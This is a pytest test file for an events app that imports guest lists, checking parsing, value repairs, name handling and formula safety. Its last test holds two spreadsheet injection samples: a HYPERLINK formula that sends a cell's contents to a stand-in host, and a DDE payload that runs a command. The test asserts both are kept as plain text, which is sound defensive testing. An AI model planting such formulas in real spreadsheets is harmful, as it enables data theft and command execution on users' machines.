"""The eight lists as they arrived, and the same bytes under names that tell nothing."""

import json
from pathlib import Path

import pytest

from events_app.invitation.guest_list import read_guest_list, summary

GUESTS = Path(__file__).parents[2] / "data" / "guests"
EXPECTED = json.loads((GUESTS / "expected.json").read_text(encoding="utf-8"))
# Nothing inside these two says which prison sends them.
TOLD_BY_NAME_ALONE = {"partners-taipei-prison.csv", "partners-taichung-prison.csv"}


def bytes_of(name: str) -> bytes:
    return (GUESTS / name).read_bytes()


def test_every_file_in_the_folder_is_expected():
    files = {path.name for path in GUESTS.iterdir()} - {"expected.json"}
    assert files == set(EXPECTED)


@pytest.mark.parametrize("name", EXPECTED)
def test_summary_equals_what_is_expected(name):
    assert summary(name, bytes_of(name)) == EXPECTED[name]


@pytest.mark.parametrize("new_name", ["a.csv", "b.xlsx", ""])
@pytest.mark.parametrize("name", EXPECTED)
def test_the_name_decides_nothing_but_the_nominator_of_two(name, new_name):
    if name in TOLD_BY_NAME_ALONE:
        expected = EXPECTED[name] | {"nominator": None, "asked": ["which nominator"]}
    else:
        expected = EXPECTED[name]
    assert summary(new_name, bytes_of(name)) == expected


@pytest.mark.parametrize("name", EXPECTED)
def test_every_ready_person_is_complete(name):
    for row in read_guest_list(bytes_of(name), name).people:
        person = row.person
        assert person.name
        assert person.type_code
        assert person.nominator_code
        assert ("@" in person.email) == (person.type_code != "GUEST")


def test_mended_values_are_what_would_be_stored():
    reading = read_guest_list(bytes_of("partners-kaohsiung-prison.xlsx"), "")
    by_row = {row.number: row for row in reading.rows}
    first, second, wide = by_row[5], by_row[6], by_row[27]
    assert first.person.mobile == "0900000075"
    assert [(n.code, n.params) for n in first.notices] == [
        ("mobile_zero_restored", {"value": "0900000075"})
    ]
    assert (second.person.organisation, second.person.tax_id) == (
        "川越示範紡織有限公司",
        "00000228",
    )
    assert (wide.person.tax_id, wide.person.email) == ("00000199", "c.m.wang128@firm39.example")
    assert by_row[45].status == "skipped"


def test_names_are_stored_exactly_as_typed():
    reading = read_guest_list(bytes_of("after-care-association.ods"), "")
    names = {row.number: row.person.name for row in reading.rows}
    assert names[15] == "𡍼美惠"
    assert names[23] == "張簡‧宇恩"
    assert names[4] == "Sayun Demoyan"


def test_formulas_stay_plain_text():
    reading = read_guest_list(bytes_of("prospective-enterprises.csv"), "")
    by_row = {row.number: row for row in reading.rows}
    assert by_row[13].person.organisation == '=HYPERLINK("http://canary.example/?"&B1,"請點我")'
    assert by_row[16].person.name == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert [n.code for n in by_row[16].notices] == ["kept_as_text"]
    assert by_row[21].person.name == "賴國"
    assert by_row[23].person.email == "office270@firm55.example"
